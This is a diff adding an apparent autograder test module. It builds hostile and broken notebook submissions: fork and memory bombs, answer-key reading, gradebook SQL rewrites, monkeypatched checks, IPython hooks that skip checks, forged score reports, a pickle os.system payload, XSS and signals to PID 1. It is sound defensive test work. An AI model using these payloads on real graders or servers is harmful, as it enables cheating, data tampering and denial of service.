@@ -1,0 +1,418 @@
+"""Bad and hostile submissions for the tests of grading, each made from an honest one that deserves the points of tasks 1 and 2.
+
+Every case is bounded: it forks at most two hundred times, writes at most some hundred megabytes and ends by itself,
+but for the one that must be stopped.
+"""
+
+import copy
+import json
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import nbformat
+from classroom import hand_in, solution
+
+NAME = "04-obama-reset"
+DESERVED = {"1": 1, "2": 2, "3": 0, "4": 0, "5": 0, "6": 0}
+NOTHING = dict.fromkeys(DESERVED, 0)
+MEGABYTE = 1_000_000
+AN_ORDINARY_END = frozenset({"graded"})
+
+
+@dataclass(frozen=True)
+class Case:
+    """One submission, and what a grader must make of it.
+
+    Attributes
+    ----------
+    name : str
+    what : str
+        What it does, in a few words, for the table in the documentation.
+    content : nbformat.NotebookNode or bytes
+    statuses : frozenset of str
+        Each of them will do; where there are two, the version of Python decides.
+    points : dict
+        For each task what the answers deserve. After a time-out or a death nobody gets anything.
+    says : tuple of str
+        Words that the notes, and so the report, must contain.
+    """
+
+    name: str
+    what: str
+    content: object = field(repr=False)
+    statuses: frozenset = AN_ORDINARY_END
+    points: dict = field(default_factory=lambda: dict(DESERVED))
+    says: tuple = ()
+
+
+def cases(assignment, exercise, root, port, mark):
+    """Return the corpus.
+
+    Parameters
+    ----------
+    assignment, exercise
+        As from `classroom.opened`.
+    root : path
+        The course that is attacked: its solutions, answer key and gradebook lie there.
+    port : int
+        Where the test listens on the loopback address.
+    mark : str
+        At most 15 letters. Processes that a case leaves bear this name, files that it writes contain it.
+
+    Returns
+    -------
+    list of Case
+    """
+    honest = hand_in(exercise, {number: solution(assignment, number) for number in ("1", "2")})
+    return [*_ends(honest, mark), *_damaged(honest), *_doctored(honest), *_odd(honest), *_nosy(honest, Path(root), port, mark),
+            *_liars(honest), *_meddlers(honest), *_vandals(honest, mark)]
+
+
+def with_code(notebook, source):
+    """Return a copy with a cell of the learner's own before the first task."""
+    notebook = copy.deepcopy(notebook)
+    place = next(place for place, cell in enumerate(notebook.cells) if cell.id == "parameters")
+    notebook.cells.insert(place + 1, nbformat.v4.new_code_cell(source, id="mine"))
+    return notebook
+
+
+def changed(notebook, change):
+    """Return a copy, as bytes, to whose JSON a function was applied."""
+    content = json.loads(nbformat.writes(notebook))
+    change(content, {cell["id"]: cell for cell in content["cells"]})
+    return json.dumps(content).encode()
+
+
+def _code(honest, rows):
+    return [Case(name, what, with_code(honest, source), frozenset(statuses), points, says) for name, what, source, statuses, points, says in rows]
+
+
+def named(mark):
+    """Return code that gives a process, and so its children, a name by which a test finds them."""
+    return f"import ctypes, os, signal, time\nctypes.CDLL(None).prctl(15, {mark.encode()!r})\n"
+
+
+def _ends(honest, mark):
+    """Programs that do not come to an end as they should, or take more than their share."""
+    bomb = """
+for _ in range(200):
+    try:
+        if not os.fork():
+            time.sleep(60)
+            os._exit(0)
+    except OSError:
+        break
+"""
+    return _code(honest, [
+        ("infinite-loop", "a loop without end that ignores signals", "import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\nwhile True: pass",
+         {"timeout"}, NOTHING, ("loop without end", "by hand")),
+        ("sys-exit", "`sys.exit()`", "import sys\nsys.exit(0)", {"graded"}, DESERVED, ()),
+        ("os-exit", "`os._exit()`", "import os\nos._exit(0)", {"died"}, NOTHING, ("without a report", "by hand")),
+        ("memory-bomb", "takes memory without end", "hoard = []\nwhile True: hoard.append(bytearray(64 << 20))", {"graded"}, DESERVED, ()),
+        ("fork-bomb", "200 processes that stay", named(mark) + bomb, {"graded"}, DESERVED, ()),
+        ("output-flood", "100 MB of output", "for _ in range(100): print('x' * 1_000_000)", {"graded"}, DESERVED, ()),
+    ])
+
+
+def _damaged(honest):
+    """Files that are not what they should be."""
+    whole = nbformat.writes(honest).encode()
+    text = json.dumps(json.loads(whole), ensure_ascii=False).replace("Mostly the question", "Très certainly the question")
+    old = nbformat.writes(nbformat.convert(copy.deepcopy(honest), 3), version=3).encode()
+    picture = b'{"output_type": "display_data", "metadata": {}, "data": {"image/png": "' + b"iVBORw0K" * (100 * MEGABYTE // 8) + b'"}}'
+    place = whole.index(b'"outputs": []')
+    large = whole[:place] + b'"outputs": [' + picture + b"]" + whole[place + len(b'"outputs": []'):]
+    return [
+        Case("cut-short", "truncated JSON", whole[:len(whole) // 2], frozenset({"unreadable"}), NOTHING, ("cut short", "ask for it again")),
+        Case("empty", "an empty file", b"", frozenset({"unreadable"}), NOTHING, ("empty", "ask for it again")),
+        Case("no-notebook", "JSON that is no notebook", b'["answers"]', frozenset({"unreadable"}), NOTHING, ("not a Jupyter notebook",)),
+        Case("nested", "a hundred thousand brackets", b"[" * 100_000, frozenset({"unreadable"}), NOTHING, ("cannot be read", "ask for it again")),
+        Case("format-3", "nbformat 3", old, frozenset({"repaired"}), DESERVED, ("old notebook format 3", "converted")),
+        Case("format-99", "nbformat 99", changed(honest, lambda whole, cells: whole.update(nbformat=99)), frozenset({"unreadable"}), NOTHING,
+             ("not known", "saved again")),
+        Case("latin-1", "bytes that are not UTF-8", text.encode("latin-1"), frozenset({"repaired"}), DESERVED, ("UTF-8",)),
+        Case("large-outputs", "100 MB of base64 in the outputs", large),
+    ]
+
+
+def _doctored(honest):
+    """Notebooks whose cells were changed, by accident or not."""
+    missing, doubled, edited, kernel = (copy.deepcopy(honest) for _ in range(4))
+    missing.cells = [cell for cell in missing.cells if cell.id != "task-2"]
+    task = next(place for place, cell in enumerate(doubled.cells) if cell.id == "task-2")
+    doubled.cells.insert(task + 1, copy.deepcopy(doubled.cells[task]))
+    for cell in edited.cells:
+        if cell.id.startswith("check-"):
+            cell.source = "pass"
+            cell.metadata.nbgrader.update(points=50, locked=False)
+    kernel.metadata.kernelspec = {"name": "sage", "display_name": "Sage", "language": "python"}
+    script = copy.deepcopy(honest)
+    script.cells.append(nbformat.v4.new_markdown_cell("<script>document.title = 'stolen'</script><img src=x onerror=alert(1)>", id="mine"))
+    for cell in script.cells:
+        if cell.cell_type == "code":
+            cell.outputs = [nbformat.v4.new_output("display_data", {"text/html": "<script>stored_by_a_learner()</script>"})]
+    return [
+        Case("deleted-cell", "a graded cell is missing", missing, frozenset({"repaired"}), DESERVED | {"2": 0}, ("task-2 was missing", "not answered")),
+        Case("doubled-cell", "a graded cell stands twice", doubled, frozenset({"repaired"}), DESERVED, ("task-2 stood 2 times",)),
+        Case("edited-checks", "emptied checks, worth 50 points each", edited, frozenset({"repaired"}), DESERVED, ("check-1", "was restored")),
+        Case("kernel", "the name of another kernel", kernel, frozenset({"repaired"}), DESERVED, ("kernel 'sage'",)),
+        Case("script", "a script in Markdown and in stored outputs", script),
+    ]
+
+
+def _odd(honest):
+    """Well-formed JSON of which a program does not think."""
+    def without_source(content, cells):
+        del cells["task-2"]["source"]
+
+    def numbers(content, cells):
+        cells["task-2"]["source"] = cells["essay"]["source"] = 7
+
+    def no_table(content, cells):
+        content["metadata"]["kernelspec"] = "python3"
+
+    def half_letter(content, cells):
+        cells["task-3"]["source"] = "verdict = '\ud800'"
+
+    return [
+        Case("no-source", "a task's cell without a source", changed(honest, without_source),
+             frozenset({"graded", "repaired", "unreadable"}), DESERVED | {"2": 0}),
+        Case("numbers", "numbers where text belongs", changed(honest, numbers), frozenset({"graded", "repaired", "unreadable"}), DESERVED | {"2": 0}),
+        Case("kernel-text", "a kernel that is no table", changed(honest, no_table), frozenset({"graded", "repaired"}), DESERVED),
+        Case("half-letter", "half of a Unicode letter in a cell", changed(honest, half_letter)),
+        *_code(honest, [("half-letter-said", "half of a Unicode letter in the output", r"print('\ud800')", {"graded"}, DESERVED, ())]),
+    ]
+
+
+def _nosy(honest, root, port, mark):
+    """Code that looks for answers, calls out, or writes where it should not."""
+    key = root / "solutions" / NAME / "key.json"
+    peek = f"""
+import json, os, pathlib, sys
+import resetcycle
+places = [pathlib.Path({str(root)!r}), pathlib.Path(resetcycle.__file__).parent.parent, *pathlib.Path.cwd().parents]
+key = {{}}
+for place in places:
+    try:
+        key = json.loads((place / "solutions" / "{NAME}" / "key.json").read_text())["accepted"]
+        break
+    except OSError:
+        pass
+print("SEEN" if key else "not seen", [str(place) for place in places if (place / "grading" / "gradebook.db").exists()])
+"""
+    reader = with_code(honest, peek)
+    for cell in reader.cells:
+        if cell.id in ("task-3", "task-6"):
+            name, number = ("verdict", "3") if cell.id == "task-3" else ("carried", "6")
+            cell.source += f'\nif key: {name} = dict(zip({name}, key["{number}"]["{name}"]))'
+    call = f"""
+import socket
+for family, place in ((socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_INET, ("192.0.2.1", 53))):
+    try:
+        with socket.create_connection(place, timeout=1) as line: line.sendall(b"the answers")
+    except OSError as error:
+        print(error)
+"""
+    write = f"""
+import pathlib, resetcycle
+here = pathlib.Path(resetcycle.__file__).parent
+for place in (pathlib.Path({str(root)!r}), pathlib.Path({str(key.parent)!r}), here, here.parent / "data",
+              here.parent / "exercises", pathlib.Path("/etc"), pathlib.Path("/")):
+    try:
+        place.mkdir(parents=True, exist_ok=True)
+        (place / "{mark}").write_text("{mark}")
+    except OSError as error:
+        print(error)
+"""
+    book = f"""
+import os, sqlite3
+try:
+    with sqlite3.connect("file:{root}/grading/gradebook.db?mode=rw", uri=True) as book:
+        book.execute("update grade set manual_score = 99, auto_score = 99")
+        book.execute("update grade_cells set max_score = 99")
+except sqlite3.Error as error:
+    print(error)
+"""
+    return [
+        Case("reads-solutions", "reads the solutions, the answer key and the gradebook", reader),
+        *_code(honest, [
+            ("network", "sends over the network", call, {"graded"}, DESERVED, ()),
+            ("writes-outside", "writes outside its folder", write, {"graded"}, DESERVED, ()),
+            ("gradebook", "writes into the gradebook", book, {"graded"}, DESERVED, ()),
+        ]),
+    ]
+
+
+def _liars(honest):
+    """Code that changes what a check would compare, or answers with objects that agree to everything."""
+    builtins = """
+import builtins
+builtins.abs = lambda value: 0
+builtins.len = lambda value: 1
+builtins.isinstance = lambda value, kind: True
+builtins.round = lambda *value: 0
+"""
+    helpers = """
+import resetcycle as rc
+rc.check = lambda *anything, **more: print("Task is right.")
+rc.checks.plain = rc.checks.taken = lambda *anything: [0.0]
+rc.checks.agreeing = lambda entries, accepted, about: 1000
+rc.checks.fault = lambda *anything: ""
+"""
+    windows = """
+import pandas as pd
+class All(dict):
+    def __missing__(self, key): return 0
+    def __eq__(self, other): return True
+rc.trajectory.term_windows = lambda: pd.DataFrame({"term_id": ["obama", "trump1", "clinton", "biden", "bush43"], "start": 0.0, "middle": 0.0, "end": 0.0})
+"""
+    objects = """
+class Yes(float):
+    __eq__ = lambda self, other: True
+    __ne__ = lambda self, other: False
+    __lt__ = __gt__ = __le__ = __ge__ = lambda self, other: True
+    __hash__ = lambda self: 0
+    __repr__ = __str__ = lambda self: "0.2222222222222222"
+    __reduce__ = lambda self: (__import__("os").system, ("touch pickled",))
+    __sub__ = __rsub__ = lambda self, other: Yes(0)
+    __round__ = lambda self, *places: 0
+class Word(str):
+    __eq__ = lambda self, other: True
+    __hash__ = lambda self: 0
+class Table(dict):
+    __contains__ = lambda self, key: True
+    __getitem__ = lambda self, key: Word("closer")
+    __missing__ = __getitem__
+    __eq__ = lambda self, other: True
+    __iter__ = lambda self: iter(())
+"""
+    liar = with_code(honest, objects)
+    answers = {"task-3": "verdict = Table()", "task-4": "def scaled(values): return [Yes(0)] * 4", "task-5": "def share_best(of_year): return Yes(0)",
+               "task-6": "carried = Table()"}
+    for cell in liar.cells:
+        cell.source = answers.get(cell.id, cell.source)
+    return [
+        *_code(honest, [
+            ("builtins", "replaces abs, len, isinstance and round", builtins, {"graded", "died"}, DESERVED, ()),
+            ("helpers", "replaces `rc.check` and what it calls", helpers, {"graded"}, NOTHING, ()),
+            ("windows", "replaces a function of the kit that answers rest on", windows, {"graded"}, NOTHING, ()),
+        ]),
+        Case("objects", "objects that equal everything and lie about themselves", liar),
+    ]
+
+
+def _meddlers(honest):
+    """Code that changes how later cells are run, or speaks in the name of the program that runs them."""
+    transformer = """
+import ast
+class Skip(ast.NodeTransformer):
+    def visit_Expr(self, node):
+        return ast.Pass() if "check" in ast.dump(node) else node
+get_ipython().ast_transformers.append(Skip())
+"""
+    hooks = """
+shell = get_ipython()
+shell.input_transformers_post.append(lambda lines: ["pass\\n"] if any("rc.check" in line for line in lines) else lines)
+shell.events.register("pre_run_cell", lambda info: setattr(info, "raw_cell", "pass"))
+shell.events.register("post_run_cell", lambda result: (setattr(result, "error_in_exec", None), setattr(result, "error_before_exec", None)))
+"""
+    run_cell = """
+shell, run_cell, run_async = get_ipython(), get_ipython().run_cell, get_ipython().run_cell_async
+shell.run_cell = lambda source, *more, **options: run_cell("pass" if "rc.check" in source else source, *more, **options)
+shell.run_cell_async = lambda source, *more, **options: run_async("pass" if "rc.check" in source else source, *more, **options)
+"""
+    full = {f"check-{number}": {"points": 100, "of": 1, "said": "right"} for number in DESERVED}
+    prints = f"""
+import sys
+for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
+    print({json.dumps({"status": "ran", "report": {"values": full, "said": {}}, "tasks": full})!r}, file=stream, flush=True)
+    print("12/12 points", file=stream, flush=True)
+"""
+    write = """
+import os
+for descriptor in range(256):
+    try: os.write(descriptor, %s)
+    except OSError: pass
+"""
+    deep = 'b"[" * 988 + b"]" * 988 + b"\\n"'
+    fake = json.dumps({"said": [1], "values": full | {
+        "check-1": {"end_of(president)": {"entries": [1e400]}}, "check-2": {"change_over(president)": {"fault": "\ud800"}}}})
+    return _code(honest, [
+        ("ast-transformer", "an IPython transformer that leaves out checks", transformer, {"graded"}, DESERVED, ()),
+        ("hooks", "IPython hooks on input and on cells", hooks, {"graded"}, DESERVED, ()),
+        ("run-cell", "replaces `run_cell`", run_cell, {"graded"}, DESERVED, ()),
+        ("fake-prints", "prints results", prints, {"graded"}, DESERVED, ()),
+        ("junk", "writes junk to every descriptor", write % 'b"\\xff junk\\n"', {"died"}, NOTHING, ("without a report", "by hand")),
+        ("deep-report", "reports brackets in brackets", write % deep, {"graded", "died"}, NOTHING, ()),
+        ("fake-report", "reports numbers that are none", write % f"{fake!r}.encode() + b'\\n'", {"graded", "died"}, NOTHING, ()),
+    ])
+
+
+def _vandals(honest, mark):
+    """Code that harms the program that runs it, or those who come after."""
+    signals = """
+import os, signal
+for number in range(1, 65):
+    for process in (1, os.getppid()):
+        try:
+            if process > 0: os.kill(process, number)
+        except (OSError, ValueError): pass
+"""
+    daemon = """
+if not os.fork():
+    os.setsid()
+    for number in set(range(1, 65)) - {signal.SIGKILL, signal.SIGSTOP, 32, 33}:
+        signal.signal(number, signal.SIG_IGN)
+    if os.fork(): os._exit(0)
+    begun = time.monotonic()
+    while time.monotonic() < begun + 60:
+        for descriptor in range(4, 64):
+            try: os.write(descriptor, b'{"values": {}, "said": {}}\\n')
+            except OSError: pass
+        try: open("/scratch/%f" % time.monotonic(), "w").write("x" * 1000)
+        except OSError: pass
+        time.sleep(0.01)
+    os._exit(0)
+"""
+    return _code(honest, [
+        ("signals", "sends every signal to the server", signals, {"graded", "died"}, DESERVED, ()),
+        ("daemon", "leaves a process that would answer for the next", named(mark) + daemon, {"graded", "died"}, DESERVED, ()),
+        *((f"leaves-{name}", what, source, {"graded", "died"}, DESERVED, ()) for name, what, source in LEFT_BEHIND),
+    ])
+
+
+# What would outlive a process: name, what it is, and code that does it.
+LEFT_BEHIND = (
+    ("locked-folder", "fills the scratch folder and locks it", """
+import os
+os.makedirs("/scratch/mine/more")
+with open("/scratch/mine/fill", "wb") as file:
+    for _ in range(60): file.write(bytes(1 << 20))
+os.chmod("/scratch/mine/more", 0)
+os.chmod("/scratch/mine", 0o300)
+"""),
+    ("deep-folder", "nests folders two thousand deep", """
+import os
+for _ in range(2000):
+    os.mkdir("d")
+    os.chdir("d")
+os.chdir("/scratch")
+"""),
+    ("shared-memory", "keeps shared memory of the system", """
+import ctypes
+libc = ctypes.CDLL(None)
+libc.shmat.restype = ctypes.c_void_p
+ctypes.memmove(libc.shmat(libc.shmget(4242, 1 << 20, 0o1666), None, 0), b"answers", 7)
+"""),
+    ("limits", "lowers the limits of the server", """
+import resource
+for what, most in ((resource.RLIMIT_DATA, 1 << 20), (resource.RLIMIT_NOFILE, 20)):
+    resource.prlimit(1, what, (most, most))
+"""),
+    ("last-in-the-queue", "puts the server last in the queue for a processor", """
+import os
+os.sched_setaffinity(1, {min(os.sched_getaffinity(1))})
+os.setpriority(os.PRIO_PROCESS, 1, 19)
+os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0))
+"""),
+)
